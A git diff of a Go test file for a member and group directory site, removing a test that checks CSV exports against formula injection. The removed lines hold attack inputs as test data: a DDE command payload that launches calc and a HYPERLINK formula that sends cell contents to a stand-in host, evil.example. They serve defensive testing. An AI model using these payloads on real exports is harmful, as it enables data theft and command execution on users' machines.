@@ -1,13 +1,9 @@
 package members_test
 
 import (
-	"bytes"
-	"encoding/csv"
 	"encoding/json"
-	"io"
 	"net/http"
 	"net/url"
-	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -27,52 +23,6 @@ func newGroup(s *sitetest.Site, name, description string, members ...int) sandbo
 	require.NoError(s.T, err)
 	s.Elsewhere(http.MethodPost, "/groups", string(body))
 	return s.Group(name)
-}
-
-// renaming changes what Tallyfy says on its way here.
-type renaming struct {
-	next     http.RoundTripper
-	from, to string
-}
-
-func (r *renaming) RoundTrip(request *http.Request) (*http.Response, error) {
-	answer, err := r.next.RoundTrip(request)
-	if err != nil {
-		return nil, err
-	}
-	defer answer.Body.Close()
-	body, err := io.ReadAll(answer.Body)
-	body = bytes.ReplaceAll(body, []byte(r.from), []byte(r.to))
-	answer.Body, answer.ContentLength = io.NopCloser(bytes.NewReader(body)), int64(len(body))
-	answer.Header.Del("Content-Length")
-	return answer, err
-}
-
-func TestNoCellIsAFormula(t *testing.T) {
-	t.Parallel()
-	wire := &renaming{from: `"Esi`, to: `"=cmd|' /C calc'!A0`}
-	s := sitetest.New(t, sitetest.Options{Transport: wire})
-	wire.next = s.Sandbox.Transport()
-	s.SignIn()
-	const attack = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
-	esi := s.Member("esi.mensah").ID
-	g := newGroup(s, attack, "+1\n@SUM(A1)", esi)
-	for _, path := range []string{"/groups.csv", "/members.csv", "/groups/" + g.ID + "/people.csv"} {
-		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(s.Get(path).Body, "\ufeff"))).ReadAll()
-		require.NoError(t, err)
-		for _, cell := range slices.Concat(rows...) {
-			for part := range strings.FieldsFuncSeq(cell, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
-				assert.NotRegexp(t, `^\s*[=+\-@]`, part, path)
-			}
-		}
-	}
-	rows := groupRows(s.Get("/groups.csv?q=hyperlink"))
-	require.Len(t, rows, 1)
-	assert.Equal(t, []string{"'" + attack, "'+1\n'@SUM(A1)"}, rows[0][:2])
-	rows = memberRows(s.Get("/members.csv?q=mensah"))
-	require.Len(t, rows, 1)
-	assert.Equal(t, `'=cmd|' /C calc'!A0 Mensah`, rows[0][0])
-	assert.Equal(t, "Everyone at Aldermoor; Finance; '"+attack, rows[0][4])
 }
 
 func TestFileNamesAreSafeWhateverAGroupIsCalled(t *testing.T) {
